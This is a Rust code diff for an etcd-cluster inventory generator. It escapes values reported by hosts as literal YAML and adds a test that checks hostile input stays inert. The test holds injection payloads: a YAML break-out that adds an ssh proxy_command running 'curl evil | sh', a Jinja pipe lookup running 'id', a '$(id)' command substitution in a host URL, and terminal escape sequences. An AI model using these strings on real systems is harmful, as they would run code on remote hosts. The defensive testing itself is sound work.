@@ -7,8 +7,8 @@ use indexmap::IndexMap;
 
 use super::{Refusal, told::Told};
 use crate::{
-    inventory::edit::flow,
-    model::{Value, ValueMap, Version},
+    inventory::edit::{flow, literal},
+    model::{Value, ValueMap, Version, one_line},
 };
 
 const KNOWN_PEER_PORT: u16 = 2380;
@@ -93,6 +93,8 @@ impl Adoption {
             }
             remarks.extend(own.into_iter().map(|remark| format!("{}: {remark}", member.name)));
         }
+        // A line of its own in a comment would not be one.
+        remarks.iter_mut().for_each(|remark| *remark = one_line(remark));
         let (mut etcd, own) = apart(sections);
         agree(self.visited().map(|(member, _)| member.name.as_str()).zip(&own))?;
         if self.peer_port != KNOWN_PEER_PORT {
@@ -105,17 +107,18 @@ impl Adoption {
             text,
             "  {}: {{ file: {}, sha256: {} }}\nclusters:\n  {}:",
             self.version,
-            flow(&self.release.clone().into()),
-            self.sha256,
-            self.cluster
+            said(&self.release.clone().into()),
+            said(&self.sha256.clone().into()),
+            said(&self.cluster.clone().into())
         );
         let _ = writeln!(text, "    etcd:\n      version: {}", self.version);
-        etcd.iter().for_each(|(name, value)| text += &format!("      {name}: {}\n", flow(value)));
+        etcd.iter()
+            .for_each(|(name, value)| text += &format!("      {}: {}\n", said(&name.clone().into()), said(value)));
         self.tls(&mut text);
         let auth = self.auth_section();
         for (name, section) in [("auth", auth), ("ssh", ssh), ("vars", self.vars())] {
             if !section.is_empty() {
-                let _ = writeln!(text, "    {name}: {}", flow(&section.into()));
+                let _ = writeln!(text, "    {name}: {}", said(&section.into()));
             }
         }
         text += "    members:\n";
@@ -131,7 +134,7 @@ impl Adoption {
                     entry.insert(name.to_owned(), section.into());
                 }
             }
-            let _ = writeln!(text, "      {}: {}", flow(&member.name.clone().into()), flow(&entry.into()));
+            let _ = writeln!(text, "      {}: {}", said(&member.name.clone().into()), said(&entry.into()));
         }
         Ok(Composed { text: format!("{}{text}", self.head(&remarks)), remarks })
     }
@@ -155,15 +158,15 @@ impl Adoption {
     fn tls(&self, text: &mut String) {
         let _ = writeln!(text, "    tls:");
         if let Some(organization) = &self.organization {
-            let _ = writeln!(text, "      organization: {}", flow(&organization.clone().into()));
+            let _ = writeln!(text, "      organization: {}", said(&organization.clone().into()));
         }
         let names = self.more_names();
         if !names.is_empty() {
-            let _ = writeln!(text, "      names: {}", flow(&names.into_iter().map(Value::from).collect()));
+            let _ = writeln!(text, "      names: {}", said(&names.into_iter().map(Value::from).collect()));
         }
-        let _ = writeln!(text, "      ca:\n        certificate: {}", flow(&self.authority.clone().into()));
+        let _ = writeln!(text, "      ca:\n        certificate: {}", said(&self.authority.clone().into()));
         match &self.authority_key {
-            Some(key) => *text += &format!("        key: {}\n", flow(&key.clone().into())),
+            Some(key) => *text += &format!("        key: {}\n", said(&key.clone().into())),
             None => {
                 let command = flow(&NO_SIGNER.into_iter().map(Value::from).collect());
                 let _ = writeln!(
@@ -281,6 +284,11 @@ fn agree<'a>(own: impl Iterator<Item = (&'a str, &'a ValueMap)>) -> Result<(), R
         }
     }
     Ok(())
+}
+
+/// What hosts have said, in one line of YAML: as data, and never as a template or as more YAML.
+fn said(value: &Value) -> String {
+    flow(&literal(value))
 }
 
 /// Whether etcd can bind it.
@@ -416,6 +424,43 @@ mod tests {
         assert!(adoption(named.to_vec()).compose().unwrap_err().to_string().contains("do not agree on `data_dir`"));
     }
 
+    /// Everything that a host says is data, whatever it says.
+    #[test]
+    fn what_a_hostile_host_says_stays_what_it_is() {
+        const BREAK: &str = "x }\ngroups: { evil: { hosts: [m0], ssh: { proxy_command: \"curl evil | sh\" } } } #";
+        const TEMPLATE: &str = "{{ lookup('pipe', 'id') }}{% if x %}{{{";
+        let mut hostile = server("--data-dir /d");
+        hostile.told = Told::by_words(
+            &["etcd", "--data-dir", "/d", "--snapshot-count", TEMPLATE, "--max-txn-ops", BREAK].map(str::to_owned),
+            &[("ETCD_ENABLE_PPROF".to_owned(), "\u{2028}\u{85}\x1b[2J".to_owned())],
+        );
+        (hostile.unit, hostile.user) = (Some(format!("a.service\n{BREAK}\x1b[31m")), format!("{BREAK}{TEMPLATE}"));
+        hostile.account = Some((TEMPLATE.to_owned(), BREAK.to_owned()));
+        let composed =
+            Adoption { sha256: BREAK.to_owned(), organization: Some(BREAK.to_owned()), ..adoption(vec![Ok(hostile)]) };
+        let composed = composed.compose().unwrap();
+        let (mut sources, mut problems) = (crate::source::Sources::default(), crate::source::Diagnostics::default());
+        let file = sources.add("inventory", composed.text.as_str());
+        let node = crate::source::parse(&sources, file, &mut problems).unwrap();
+        assert!(problems.is_empty(), "{}", composed.text);
+        let top: Vec<&str> = node.as_map().unwrap().iter().map(|(key, _)| &*key.name).collect();
+        assert_eq!(top, ["etcd_releases", "clusters"], "{}", composed.text);
+        let value = crate::template::Engine::new()
+            .render_node(&node, &crate::template::Scope::default())
+            .map(|node| node.to_value())
+            .map_err(|problem| problem.message)
+            .unwrap();
+        let prod = &value["clusters"]["prod"];
+        assert_eq!(prod["etcd"]["settings"]["snapshot-count"], TEMPLATE);
+        assert_eq!(prod["etcd"]["settings"]["max-txn-ops"], BREAK);
+        assert_eq!(prod["vars"]["etcd_user"], format!("{BREAK}{TEMPLATE}"));
+        assert_eq!((&prod["vars"]["etcd_user_home"], &prod["tls"]["organization"]), (&TEMPLATE.into(), &BREAK.into()));
+        assert_eq!(value["etcd_releases"]["3.5.34"]["sha256"], BREAK);
+        let is_bad = |c: char| c.is_control() && c != '\n' || matches!(c, '\u{2028}' | '\u{2029}');
+        assert!(!composed.text.contains(is_bad), "{:?}", composed.text);
+        assert!(composed.remarks.iter().all(|remark| !remark.contains(char::is_control)), "{:?}", composed.remarks);
+    }
+
     #[test]
     fn settings_that_cannot_stay_are_told() {
         let servers = vec![Ok(server("--unsafe-no-fsync --peer-cert-allowed-cn peers --name m0"))];
@@ -445,6 +490,7 @@ mod tests {
         assert!(told(&[listed("prod", "https://10.0.0.2:2380", false)]).contains("is that of the cluster"));
         assert!(told(&[good.clone(), good.clone()]).contains("two members have the name a"));
         assert!(told(&[listed("b", "http://10.0.0.2:2380", false)]).contains("is not an https URL"));
+        assert!(told(&[listed("b", "https://$(id):2380", false)]).contains("neither an address nor a name of a host"));
         assert!(told(&[good, listed("b", "https://10.0.0.2:9380", false)]).contains("different ports"));
     }
 }
